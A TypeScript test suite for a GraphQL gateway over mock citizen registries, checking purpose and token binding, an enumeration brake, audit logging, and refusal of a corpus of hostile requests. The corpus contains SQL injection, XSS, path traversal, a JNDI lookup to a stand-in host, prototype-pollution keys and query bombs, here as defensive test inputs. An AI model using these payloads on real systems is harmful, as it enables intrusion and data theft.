/**
 * The security suite over the whole stack (mock registries, four subgraphs, gateway with
 * every concern): purpose binding, subject binding, relation checks, the enumeration
 * brake, and a corpus of hostile and malformed requests. Each hostile request must get a
 * clear 4xx (or a GraphQL error with a client-side code), the gateway must keep answering,
 * and memory must stay bounded.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CitizenRecord, World } from '../mocks/world/types.js';
import { startEidIssuer, type StartedEidIssuer, createEidIssuer, type EidIssuer } from '../mocks/eid/issuer.js';
import type { RunningGateway } from '../gateway/app.js';
import type { Stack } from './support/stack.js';
import { GENEROUS_RATE_LIMIT, startProductionGateway, startStackForClients, type ProductionGateway } from './support/client-stack.js';
import { writeClientsFile, type ClientsFixture } from './support/security-fixtures.js';

/** Codes a client may see for a refused request (anything else, e.g. INTERNAL_SERVER_ERROR, is a bug). */
const CLIENT_CODES = new Set([
  'BAD_REQUEST', 'BAD_USER_INPUT', 'LIMIT_EXCEEDED', 'GRAPHQL_PARSE_FAILED', 'GRAPHQL_VALIDATION_FAILED',
  'OPERATION_RESOLUTION_FAILURE', 'UNAUTHENTICATED', 'FORBIDDEN', 'NOT_FOUND', 'RATE_LIMITED',
  'PERSISTED_QUERY_NOT_FOUND', 'PERSISTED_QUERY_NOT_SUPPORTED',
]);

let stack: Stack;
let eid: StartedEidIssuer;
let rogue: EidIssuer;
let clients: ClientsFixture;
let world: World;
let procedureIds: string[];

/** A living adult with a permanent residence, a recorded father, and an enterprise role. */
let citizen: CitizenRecord;
let father: CitizenRecord;
let stranger: CitizenRecord;
let ownEnterprise: string;
let otherEnterprise: string;

beforeAll(async () => {
  eid = await startEidIssuer({ port: 0 });
  rogue = await createEidIssuer(); // same issuer name, its own key: forgeries
  clients = writeClientsFile([
    // procedures are filled in below, once the catalog is known: '*' is honoured in development only.
    { id: 'full', procedures: ['*'] },
    { id: 'narrow', procedures: ['lodging-notification'], registries: ['population'] },
    { id: 'consent', procedures: ['*'], requireSubjectToken: true },
    { id: 'explorer', procedures: ['*'], permissions: ['explore'] },
    { id: 'prober', procedures: ['lodging-notification'] },
  ]);
  stack = await startStackForClients(clients, {
    rateLimit: { ...GENEROUS_RATE_LIMIT, unknownLookups: 5 },
    policy: { subjectTokens: { jwksUrl: eid.jwksUrl } },
  });
  world = stack.world;
  procedureIds = stack.gateway.services.need('procedures').ids();
  const byId = new Map(world.citizens.map((c) => [c.personalId, c]));
  const roles = new Map<string, string[]>();
  for (const e of world.enterprises) for (const r of e.legalRepresentatives) roles.set(r.personalId, [...(roles.get(r.personalId) ?? []), e.enterpriseCode]);
  const candidates = world.citizens.filter((c) => !c.deceased && c.permanentResidence && c.fatherId && byId.has(c.fatherId) && roles.has(c.personalId));
  citizen = candidates[0] ?? world.citizens.find((c) => !c.deceased && c.fatherId && byId.has(c.fatherId))!;
  father = byId.get(citizen.fatherId!)!;
  const family = new Set([citizen.fatherId, citizen.motherId, citizen.spouseId, ...citizen.childrenIds, citizen.personalId]);
  const household = world.households.find((h) => h.householdId === citizen.householdId);
  for (const m of household?.members ?? []) family.add(m.personalId);
  stranger = world.citizens.find((c) => !family.has(c.personalId) && !c.deceased)!;
  ownEnterprise = roles.get(citizen.personalId)?.[0] ?? '';
  otherEnterprise = world.enterprises.find((e) => !e.legalRepresentatives.some((r) => r.personalId === citizen.personalId) && !e.members.some((m) => m.personalId === citizen.personalId))!.enterpriseCode;
});

afterAll(async () => {
  await stack?.close();
  await eid?.close();
  clients?.cleanup();
});

const as = (client: string, headers: Record<string, string> = {}) => ({ key: clients.keys[client]!, headers });
const codeOf = (r: { body: { errors?: Array<{ extensions?: { code?: string } }> } }) => r.body.errors?.[0]?.extensions?.code;

/** The query a TTHC system would write for the lodging notification: its compiled operation, as text. */
function lodgingQuery(): { query: string; operationName: string; variables: Record<string, unknown> } {
  const op = stack.gateway.services.need('procedures').operation('lodging-notification')!;
  return { query: op.query, operationName: op.operationName, variables: { personalId: citizen.personalId } };
}

describe('purpose binding (whole stack)', () => {
  it('serves exactly what the procedure declares, with X-Purpose', async () => {
    const r = await stack.query(lodgingQuery(), as('full', { 'x-purpose': 'lodging-notification', 'x-dossier-id': 'HN-2025-000001' }));
    expect(r.status).toBe(200);
    expect(r.body.errors).toBeUndefined();
    expect(JSON.stringify(r.body.data)).toContain(citizen.fullName);
  });

  it('refuses the same query without a purpose', async () => {
    const r = await stack.query(lodgingQuery(), as('full'));
    expect(r.status).toBe(403);
    expect(codeOf(r)).toBe('FORBIDDEN');
    expect(r.body.errors![0]!.message).toMatch(/X-Purpose/);
  });

  it('refuses fields the purpose does not need, naming them, before any registry is called', async () => {
    await fetch(`${stack.registries.urls.insurance}/__admin/stats`, { method: 'DELETE', headers: { 'x-api-key': 'stack-registry-key' } }).catch(() => undefined);
    const q = `query($id: ID!) { citizen(personalId: $id) { fullName religion socialInsurance { totalContributionMonths } } }`;
    const r = await stack.query({ query: q, variables: { id: citizen.personalId } }, as('full', { 'x-purpose': 'lodging-notification' }));
    expect(r.status).toBe(403);
    // Paths from the subject root, cut at the first step outside the purpose's tree.
    expect(r.body.errors![0]!.extensions!.fields).toEqual(['citizen.religion', 'citizen.socialInsurance']);
    expect(r.body.data ?? null).toBeNull();
    const stats = await fetch(`${stack.registries.urls.insurance}/__admin/stats`, { headers: { 'x-api-key': 'stack-registry-key' } });
    if (stats.ok) {
      const s = (await stats.json()) as { requests?: Record<string, number> };
      expect(Object.values(s.requests ?? {}).reduce((a, b) => a + b, 0)).toBe(0);
    }
  });

  it('refuses procedures and registries outside the client configuration', async () => {
    const other = procedureIds.find((p) => p !== 'lodging-notification')!;
    const r = await stack.query(lodgingQuery(), as('narrow', { 'x-purpose': other }));
    expect(r.status).toBe(403);
    expect(r.body.errors![0]!.message).toMatch(/may not run procedure/);
    const pre = await stack.query(
      { query: `query($id: ID!) { prefill(procedureId: "${other}", subject: { personalId: $id }) { summary { fieldsTotal } } }`, variables: { id: citizen.personalId } },
      as('narrow'),
    );
    expect(pre.status).toBe(403);
    expect(codeOf(pre)).toBe('FORBIDDEN');
  });

  it('lets the explore permission run any query in development', async () => {
    const r = await stack.query({ query: `{ citizen(personalId: "${citizen.personalId}") { fullName religion socialInsurance { status } } }` }, as('explorer'));
    expect(r.status).toBe(200);
    expect(r.body.errors).toBeUndefined();
  });

  it('applies prefill relation checks to plain queries', async () => {
    if (!ownEnterprise) return;
    const purpose = { 'x-purpose': 'enterprise-legal-representative-change' };
    const fields = stack.gateway.services.need('procedures').fieldCoordinates('enterprise-legal-representative-change')!;
    if (!fields.has('Query.enterprise')) return;
    const q = (code: string) => `{ citizen(personalId: "${citizen.personalId}") { personalId } enterprise(enterpriseCode: "${code}") { enterpriseCode } }`;
    const related = await stack.query({ query: q(ownEnterprise) }, as('full', purpose));
    expect(related.status).toBe(200);
    const unrelated = await stack.query({ query: q(otherEnterprise) }, as('full', purpose));
    expect(unrelated.status).toBe(403);
    expect(unrelated.body.errors![0]!.extensions!.reason).toBe('SUBJECT_NOT_RELATED');
    expect(unrelated.body.data ?? null).toBeNull();
  });
});

describe('subject binding (whole stack)', () => {
  const token = (personalId: string, procedureId = 'lodging-notification', extra: Record<string, unknown> = {}) =>
    eid.issueSubjectToken({ personalId, procedureId, ...extra });

  it('serves the citizen named by a valid token', async () => {
    const r = await stack.query(lodgingQuery(), as('consent', { 'x-purpose': 'lodging-notification', 'x-subject-token': await token(citizen.personalId) }));
    expect(r.status).toBe(200);
    expect(JSON.stringify(r.body.data)).toContain(citizen.fullName);
  });

  it('binds prefill to the token too', async () => {
    const q = `query($id: ID!) { prefill(procedureId: "lodging-notification", subject: { personalId: $id }) { summary { fieldsPrefilled } } }`;
    const ok = await stack.query({ query: q, variables: { id: citizen.personalId } }, as('consent', { 'x-subject-token': await token(citizen.personalId) }));
    expect(ok.status).toBe(200);
    const replayed = await stack.query({ query: q, variables: { id: stranger.personalId } }, as('consent', { 'x-subject-token': await token(citizen.personalId) }));
    expect(replayed.status).toBe(403);
  });

  const refusals: Array<[string, () => Promise<string | undefined>, RegExp]> = [
    ['no token', async () => undefined, /X-Subject-Token/],
    ['a token replayed for another citizen', () => token(stranger.personalId), /another citizen/],
    ['a token for another procedure', () => token(citizen.personalId, 'passport-issuance'), /procedure/],
    ['an expired token', () => token(citizen.personalId, 'lodging-notification', { issuedAt: Math.floor(Date.now() / 1000) - 600, ttl: 60 }), /expired/],
    ['a forged token (another key)', () => rogue.issueSubjectToken({ personalId: citizen.personalId, procedureId: 'lodging-notification' }), /key|signature/],
    ['a token from another issuer', () => token(citizen.personalId, 'lodging-notification', { issuer: 'https://evil.example' }), /issuer/],
    ['a token issued to another client', () => token(citizen.personalId, 'lodging-notification', { clientId: 'full' }), /another client/],
    ['garbage', async () => 'eyJhbGciOiJub25lIn0.e30.', /compact JWS|invalid/],
  ];
  for (const [what, make, reason] of refusals) {
    it(`refuses ${what}`, async () => {
      const t = await make();
      const r = await stack.query(lodgingQuery(), as('consent', { 'x-purpose': 'lodging-notification', ...(t ? { 'x-subject-token': t } : {}) }));
      expect(r.status).toBe(403);
      expect(codeOf(r)).toBe('FORBIDDEN');
      expect(r.body.errors![0]!.message).toMatch(reason);
      expect(r.body.errors![0]!.message).not.toContain(stranger.personalId);
      expect(r.body.data ?? null).toBeNull();
    });
  }
});

describe('no enumeration', () => {
  it('has no listing or partial-identifier search', async () => {
    for (const partial of ['0010', '001%', '001*', '00109000000_', '.*']) {
      const r = await stack.query({ query: `query($id: ID!) { citizen(personalId: $id) { fullName } }`, variables: { id: partial } }, as('explorer'));
      expect(r.status, partial).toBe(400);
      expect(codeOf(r)).toBe('BAD_USER_INPUT');
    }
    const listing = await stack.query({ query: '{ citizens { fullName } }' }, as('explorer'));
    expect(listing.status).toBe(400);
  });

  it('refuses sweeping several citizens in one request', async () => {
    const ids = world.citizens.slice(0, 5).map((c) => `"${c.personalId}"`);
    const aliases = ids.map((id, i) => `c${i}: citizen(personalId: ${id}) { fullName }`).join(' ');
    const r = await stack.query({ query: `{ ${aliases} }` }, as('full', { 'x-purpose': 'lodging-notification' }));
    expect(r.status).toBe(403);
    const batch = await stack.query({ query: `{ citizens(personalIds: [${ids.join(',')}]) { fullName } }` }, as('full', { 'x-purpose': 'lodging-notification' }));
    expect(batch.status).toBe(403);
  });

  it('brakes a client that keeps looking up identifiers that do not exist', async () => {
    const known = new Set(world.citizens.map((c) => c.personalId));
    const unknown: string[] = [];
    for (let n = 1; unknown.length < 8; n++) {
      const id = `001090${String(900000 + n).padStart(6, '0')}`;
      if (!known.has(id)) unknown.push(id);
    }
    const q = `query($id: ID!) { citizen(personalId: $id) { fullName } }`;
    const statuses: number[] = [];
    for (const id of unknown) {
      const r = await stack.query({ query: q, variables: { id } }, as('prober', { 'x-purpose': 'lodging-notification' }));
      statuses.push(r.status);
      if (r.status === 200) expect(r.body.data?.citizen).toBeNull();
    }
    expect(statuses.slice(0, 5)).toEqual([200, 200, 200, 200, 200]);
    expect(statuses.slice(5)).toEqual([429, 429, 429]);
    // Once braked, even a lookup of a real citizen waits for the window to end...
    const real = await stack.query({ query: q, variables: { id: citizen.personalId } }, as('prober', { 'x-purpose': 'lodging-notification' }));
    expect(real.status).toBe(429);
    expect(codeOf(real)).toBe('RATE_LIMITED');
    expect(Number(real.headers.get('retry-after'))).toBeGreaterThan(0);
    // ... while other clients are not affected.
    const other = await stack.query({ query: q, variables: { id: citizen.personalId } }, as('full', { 'x-purpose': 'lodging-notification' }));
    expect(other.status).toBe(200);
  });
});

describe('every refusal is an audit record', () => {
  it('records purpose, subject-token, limit, size and rate refusals with their codes', async () => {
    const store = stack.gateway.services.need('audit').store;
    if (!store) throw new Error('The audit trail is not composed in the gateway: refusals would go unrecorded.');
    const cases: Array<{ name: string; res: Response; code: string }> = [];
    const post = (body: string, headers: Record<string, string> = {}) =>
      fetch(stack.graphqlUrl, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${clients.keys.full}`, ...headers }, body });
    const wrongFields = JSON.stringify({ query: `{ citizen(personalId: "${citizen.personalId}") { religion } }` });
    cases.push({ name: 'no purpose', res: await post(wrongFields), code: 'FORBIDDEN' });
    cases.push({ name: 'fields outside the purpose', res: await post(wrongFields, { 'x-purpose': 'lodging-notification' }), code: 'FORBIDDEN' });
    cases.push({
      name: 'forged subject token',
      res: await fetch(stack.graphqlUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${clients.keys.consent}`, 'x-purpose': 'lodging-notification', 'x-subject-token': await rogue.issueSubjectToken({ personalId: citizen.personalId, procedureId: 'lodging-notification' }) },
        body: JSON.stringify(lodgingQuery()),
      }),
      code: 'FORBIDDEN',
    });
    cases.push({ name: 'depth limit', res: await post(JSON.stringify({ query: `{ citizen(personalId: "${citizen.personalId}") { ${'father { '.repeat(30)}fullName${' }'.repeat(30)} } }` })), code: 'LIMIT_EXCEEDED' });
    cases.push({ name: 'body limit', res: await post(JSON.stringify({ query: `{ __typename } #${'x'.repeat(100_000)}` })), code: 'LIMIT_EXCEEDED' });
    cases.push({ name: 'bad identifier', res: await post(JSON.stringify({ query: '{ citizen(personalId: "001%") { fullName } }' }), { 'x-purpose': 'lodging-notification' }), code: 'BAD_USER_INPUT' });
    // The prober looks up identifiers nobody has until the brake answers (it may already be braked).
    const known = new Set(world.citizens.map((c) => c.personalId));
    let braked: Response | undefined;
    for (let n = 1; n < 40 && !braked; n++) {
      const unknownId = `001190${String(800000 + n).padStart(6, '0')}`;
      if (known.has(unknownId)) continue;
      const res = await post(JSON.stringify({ query: 'query($id: ID!) { citizen(personalId: $id) { fullName } }', variables: { id: unknownId } }), { 'x-purpose': 'lodging-notification', authorization: `Bearer ${clients.keys.prober}` });
      if (res.status === 429) braked = res;
      else await res.arrayBuffer();
    }
    cases.push({ name: 'enumeration brake', res: braked!, code: 'RATE_LIMITED' });
    for (const c of cases) {
      const requestId = c.res.headers.get('x-request-id');
      expect(requestId, c.name).toBeTruthy();
      expect(c.res.status, c.name).toBeGreaterThanOrEqual(400);
      const record = await store.byRequestId(requestId!);
      expect(record, `${c.name}: no audit record for request ${requestId}`).not.toBeNull();
      expect(record!.outcome, c.name).not.toBe('OK');
      expect(record!.errorCodes, c.name).toContain(c.code);
      expect(record!.httpStatus, c.name).toBe(c.res.status);
    }
    const fieldsRecord = await store.byRequestId(cases[1]!.res.headers.get('x-request-id')!);
    expect(fieldsRecord!.procedureId).toBe('lodging-notification');
  });
});

// ── The hostile corpus ──────────────────────────────────────────────────────────────

interface Hostile {
  name: string;
  /** Raw request; `key` defaults to the `full` client's, with X-Purpose lodging-notification. */
  method?: 'GET' | 'POST';
  path?: string;
  headers?: Record<string, string>;
  body?: string | (() => ReadableStream<Uint8Array>);
  /** Status range expected: every entry must be a 4xx unless it is a GraphQL error at 200. */
  expect: number | number[];
  code?: string;
}

const id = () => citizen.personalId;
const q = (query: string, variables?: Record<string, unknown>) => JSON.stringify({ query, variables });
const byId = `query($id: ID!) { citizen(personalId: $id) { fullName } }`;

function corpus(): Hostile[] {
  const frags = Array.from({ length: 25 }, (_, i) => `fragment F${i} on Citizen { ...F${i + 1} ...F${i + 1} }`).join(' ');
  return [
    { name: 'invalid JSON', body: '{"query": ', expect: 400 },
    { name: 'JSON string body', body: '"{ __typename }"', expect: 400 },
    { name: 'JSON null body', body: 'null', expect: 400 },
    { name: 'JSON number body', body: '42', expect: 400 },
    { name: 'empty body', body: '', expect: 400 },
    { name: 'query is not a string', body: '{"query": 42}', expect: 400 },
    { name: 'query is an object', body: '{"query": {"kind": "Document"}}', expect: 400 },
    { name: 'variables not an object', body: '{"query": "{ __typename }", "variables": "x"}', expect: 400 },
    { name: 'text/plain (CSRF-able)', headers: { 'content-type': 'text/plain' }, body: q('{ __typename }'), expect: [400, 415] },
    { name: 'XML content type', headers: { 'content-type': 'application/xml' }, body: '<query/>', expect: 415 },
    { name: 'form content type', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'query=%7B__typename%7D', expect: [400, 415] },
    { name: 'multipart content type', headers: { 'content-type': 'multipart/form-data; boundary=x' }, body: '--x--', expect: [400, 415] },
    { name: 'huge declared body', body: q(`{ __typename } #${'x'.repeat(1_000_000)}`), expect: 413, code: 'LIMIT_EXCEEDED' },
    {
      name: 'huge chunked body',
      body: () => new ReadableStream<Uint8Array>({
        start(c) {
          const chunk = new TextEncoder().encode('x'.repeat(16_384));
          c.enqueue(new TextEncoder().encode('{"query":"{ __typename }","pad":"'));
          for (let i = 0; i < 64; i++) c.enqueue(chunk);
          c.enqueue(new TextEncoder().encode('"}'));
          c.close();
        },
      }),
      expect: 413,
    },
    { name: 'deep nesting', body: q(`{ citizen(personalId: "${id()}") { ${'father { '.repeat(60)}fullName${' }'.repeat(60)} } }`), expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'alias bomb', body: q(`{ citizen(personalId: "${id()}") { ${Array.from({ length: 500 }, (_, i) => `a${i}: fullName`).join(' ')} } }`), expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'fragment bomb', body: q(`{ citizen(personalId: "${id()}") { ...F0 } } ${frags} fragment F25 on Citizen { fullName }`), expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'fragment cycle', body: q(`{ citizen(personalId: "${id()}") { ...A } } fragment A on Citizen { father { ...B } } fragment B on Citizen { mother { ...A } }`), expect: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
    { name: 'self-spreading fragment', body: q(`{ citizen(personalId: "${id()}") { ...A } } fragment A on Citizen { ...A }`), expect: 400 },
    { name: 'token flood', body: q(`{ ${'__typename '.repeat(3000)} }`), expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'batched array', body: JSON.stringify([{ query: '{ __typename }' }, { query: '{ __typename }' }]), expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'batched array of 2000', body: JSON.stringify(Array.from({ length: 2000 }, () => ({ query: byId, variables: { id: id() } }))), expect: [400, 413] },
    { name: 'empty batch', body: '[]', expect: 400 },
    { name: 'directive flood', body: q(`{ citizen(personalId: "${id()}") { fullName ${'@include(if: true) '.repeat(40)} } }`), expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'duplicate directive', body: q(`{ citizen(personalId: "${id()}") { fullName @skip(if: false) @skip(if: false) } }`), expect: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
    { name: 'unknown directive', body: q(`{ citizen(personalId: "${id()}") @evil { fullName } }`), expect: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
    { name: 'directive with injected argument', body: q(`{ citizen(personalId: "${id()}") { fullName @include(if: "true; drop") } }`), expect: 400 },
    { name: 'unknown field', body: q(`{ citizen(personalId: "${id()}") { passwordHash } }`), expect: 400, code: 'GRAPHQL_VALIDATION_FAILED' },
    { name: 'mutation', body: q('mutation { deleteCitizen(personalId: "1") }'), expect: 400 },
    { name: 'subscription', body: q('subscription { citizenChanged { fullName } }'), expect: 400 },
    { name: 'unknown operation name', body: JSON.stringify({ query: '{ __typename }', operationName: 'Nope' }), expect: 400 },
    { name: 'two anonymous operations', body: q('{ __typename } { __typename }'), expect: 400 },
    ...[
      "' OR 1=1 --", '"; DROP TABLE citizens; --', '<script>alert(1)</script>', '../../../../etc/passwd', '${jndi:ldap://evil/x}',
      '{"$gt": ""}', '%00', '0010900000\u0000', '001090000001\n', '٠٠١٠٩٠٠٠٠٠٠١', '００１０９０００００００１', '0010\u200b90000001',
      '\u202e100000090100', '🇻🇳🇻🇳🇻🇳🇻🇳🇻🇳🇻🇳', 'x'.repeat(5000), '', ' 001090000001', '00109000000', '0010900000011', '000090000001', '097090000001', '001490000001',
    ].map((v): Hostile => ({ name: `identifier ${JSON.stringify(v.slice(0, 24))}`, body: q(byId, { id: v }), expect: 400, code: 'BAD_USER_INPUT' })),
    { name: 'lone surrogate in a variable', body: '{"query":"query($id: ID!) { citizen(personalId: $id) { fullName } }","variables":{"id":"\\ud800\\udc00\\ud800"}}', expect: 400 },
    { name: 'identifier as an object', body: q(byId, { id: { $ne: null } }), expect: 400 },
    { name: 'identifier as a list', body: q(byId, { id: [id(), id()] }), expect: 400 },
    { name: 'identifier as a number', body: q(byId, { id: 1090000001 }), expect: 400, code: 'BAD_USER_INPUT' },
    { name: 'enterprise code with a bad check digit', body: q(`{ citizen(personalId: "${id()}") { fullName } enterprise(enterpriseCode: "0100109107") { name } }`), expect: [400, 403] },
    { name: 'no API key', headers: { authorization: '' }, body: q('{ __typename }'), expect: 401, code: 'UNAUTHENTICATED' },
    { name: 'wrong API key', headers: { authorization: 'Bearer not-a-key' }, body: q('{ __typename }'), expect: 401, code: 'UNAUTHENTICATED' },
    { name: 'basic auth', headers: { authorization: 'Basic YWRtaW46YWRtaW4=' }, body: q('{ __typename }'), expect: 401 },
    { name: 'huge authorization header', headers: { authorization: `Bearer ${'a'.repeat(12_000)}` }, body: q('{ __typename }'), expect: [401, 431] },
    { name: 'purpose with injection', headers: { 'x-purpose': "lodging-notification' OR '1'='1" }, body: q(byId, { id: id() }), expect: 400, code: 'BAD_USER_INPUT' },
    { name: 'purpose of an unknown procedure', headers: { 'x-purpose': 'give-me-everything' }, body: q(byId, { id: id() }), expect: [403, 404] },
    { name: 'dossier id with path traversal', headers: { 'x-dossier-id': '../../etc/passwd' }, body: q(byId, { id: id() }), expect: 400, code: 'BAD_USER_INPUT' },
    { name: 'subject token garbage', headers: { 'x-subject-token': 'a.b' }, body: q(byId, { id: id() }), expect: 200 },
    { name: 'GET with a mutation', method: 'GET', path: `/graphql?query=${encodeURIComponent('mutation { x }')}`, expect: [400, 405] },
    { name: 'GET with the query twice', method: 'GET', path: '/graphql?query=%7B__typename%7D&query=%7B__typename%7D', expect: 400 },
    { name: 'GET deep nesting', method: 'GET', path: `/graphql?query=${encodeURIComponent(`{ citizen(personalId: "${id()}") { ${'father { '.repeat(30)}fullName${' }'.repeat(30)} } }`)}`, expect: 400, code: 'LIMIT_EXCEEDED' },
    { name: 'prototype pollution keys', body: '{"query":"{ __typename }","__proto__":{"admin":true},"constructor":{"prototype":{"x":1}}}', expect: 400 },
  ];
}

async function send(h: Hostile, origin = stack.gatewayUrl): Promise<{ status: number; text: string }> {
  const headers: Record<string, string> = {
    'content-type': 'application/json',
    authorization: `Bearer ${clients.keys.full}`,
    'x-purpose': 'lodging-notification',
    // Apollo's CSRF prevention requires this for GET and non-JSON POSTs; we want the limits to answer.
    'apollo-require-preflight': 'true',
    ...h.headers,
  };
  for (const [k, v] of Object.entries(headers)) if (v === '') delete headers[k];
  const body = typeof h.body === 'function' ? h.body() : h.body;
  const res = await fetch(`${origin}${h.path ?? '/graphql'}`, {
    method: h.method ?? 'POST',
    headers,
    body: h.method === 'GET' ? undefined : body,
    ...(typeof h.body === 'function' ? { duplex: 'half' } : {}),
  } as RequestInit);
  return { status: res.status, text: await res.text() };
}

/** Sends the corpus and checks every answer; `production` also forbids stack traces and internals. */
async function checkCorpus(entries: Hostile[], origin: string, production: boolean): Promise<void> {
  for (const h of entries) {
    const { status, text } = await send(h, origin);
    const allowed = Array.isArray(h.expect) ? h.expect : [h.expect];
    expect(allowed, `${h.name}: HTTP ${status} ${text.slice(0, 200)}`).toContain(status);
    expect(text, h.name).not.toMatch(/INTERNAL_SERVER_ERROR/);
    // Production: never a stack trace or an internal address.
    if (production) expect(text, h.name).not.toMatch(/stacktrace|at \w+ \(|node_modules|file:\/\/|127\.0\.0\.1:\d+|localhost:\d+/);
    let parsed: { errors?: Array<{ message?: string; extensions?: { code?: string } }> } | null = null;
    try {
      parsed = JSON.parse(text);
    } catch {
      parsed = null;
    }
    if (status >= 400) {
      expect(parsed?.errors?.[0]?.message, `${h.name}: ${text.slice(0, 200)}`).toBeTruthy();
      const code = parsed!.errors![0]!.extensions?.code;
      if (code) expect(CLIENT_CODES, `${h.name}: code ${code}`).toContain(code);
      if (h.code) expect(code, `${h.name}: ${text.slice(0, 200)}`).toBe(h.code);
    } else if (h.name === 'subject token garbage') {
      // The `full` client does not require tokens: a stray header changes nothing.
      expect(parsed?.errors).toBeUndefined();
    }
  }
}

describe('hostile and malformed requests', () => {
  it('each gets a clear client error, the gateway stays up and memory stays bounded', async () => {
    const entries = corpus();
    const heap = () => process.memoryUsage().heapUsed;
    // Warm up (JIT, caches), then measure over several rounds of the whole corpus.
    for (const h of entries) await send(h);
    (globalThis as { gc?: () => void }).gc?.();
    const before = heap();
    for (let round = 0; round < 3; round++) await checkCorpus(entries, stack.gatewayUrl, false);
    const health = await fetch(`${stack.gatewayUrl}/health`);
    expect(health.status).toBe(200);
    (globalThis as { gc?: () => void }).gc?.();
    // Generous: three rounds of ~70 hostile requests (several of them 1 MB) must not pile up.
    expect(heap() - before).toBeLessThan(64 * 1024 * 1024);
  }, 120_000);

  it('answers a burst of concurrent hostile requests and keeps serving valid ones', async () => {
    const entries = corpus();
    const results = await Promise.all(Array.from({ length: 3 }, () => entries.map(async (h) => ({ name: h.name, ...(await send(h)) }))).flat());
    expect(results.filter((r) => r.status >= 500).map((r) => `${r.name}: ${r.status} ${r.text.slice(0, 160)}`)).toEqual([]);
    const ok = await stack.query(lodgingQuery(), as('full', { 'x-purpose': 'lodging-notification' }));
    expect(ok.status).toBe(200);
  }, 120_000);

  it('sets security headers on the sandbox and the API', async () => {
    for (const path of ['/', '/graphql?query=%7B__typename%7D']) {
      const res = await fetch(`${stack.gatewayUrl}${path}`, { headers: { authorization: `Bearer ${clients.keys.full}`, 'apollo-require-preflight': 'true' } });
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('content-security-policy'), path).toMatch(/frame-ancestors 'none'/);
      expect(res.headers.get('referrer-policy'), path).toBeTruthy();
    }
  });
});

describe('production mode', () => {
  let prod: RunningGateway;
  let prodClients: ClientsFixture;
  let prodGateway: ProductionGateway;
  beforeAll(async () => {
    // '*' is not honoured in production: list the procedures explicitly.
    prodClients = writeClientsFile([
      { id: 'full', procedures: procedureIds },
      { id: 'explorer', procedures: procedureIds, permissions: ['explore'] },
    ]);
    prodGateway = await startProductionGateway(stack, prodClients, {
      rateLimit: { ratePerSecond: 100_000, burst: 100_000, redisUrl: undefined },
      policy: { subjectTokens: { jwksUrl: eid.jwksUrl } },
    });
    prod = prodGateway.gateway;
  });
  afterAll(async () => {
    await prodGateway?.close();
    prodClients?.cleanup();
  });

  const post = async (body: unknown, client = 'full', headers: Record<string, string> = {}) => {
    const res = await fetch(prod.graphqlUrl, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${prodClients.keys[client]}`, ...headers },
      body: JSON.stringify(body),
    });
    return { status: res.status, text: await res.text() };
  };

  it('answers the hostile corpus without stack traces or internal addresses', async () => {
    const saved = clients.keys.full;
    clients.keys.full = prodClients.keys.full!;
    try {
      await checkCorpus(corpus(), prod.url, true);
    } finally {
      clients.keys.full = saved!;
    }
  }, 120_000);

  it('refuses introspection and strips field suggestions', async () => {
    const intro = await post({ query: '{ __schema { types { name } } }' });
    expect(intro.status).toBeGreaterThanOrEqual(400);
    expect(intro.text).not.toContain('"types"');
    const typo = await post({ query: `{ citizen(personalId: "${citizen.personalId}") { fullNam } }` }, 'full', { 'x-purpose': 'lodging-notification' });
    expect(typo.status).toBe(400);
    expect(typo.text).toContain('fullNam');
    expect(typo.text).not.toMatch(/Did you mean/);
  });

  it('ignores the explore permission', async () => {
    const r = await post({ query: `{ citizen(personalId: "${citizen.personalId}") { religion } }` }, 'explorer');
    expect(r.status).toBe(403);
    expect(r.text).toMatch(/X-Purpose/);
  });
});
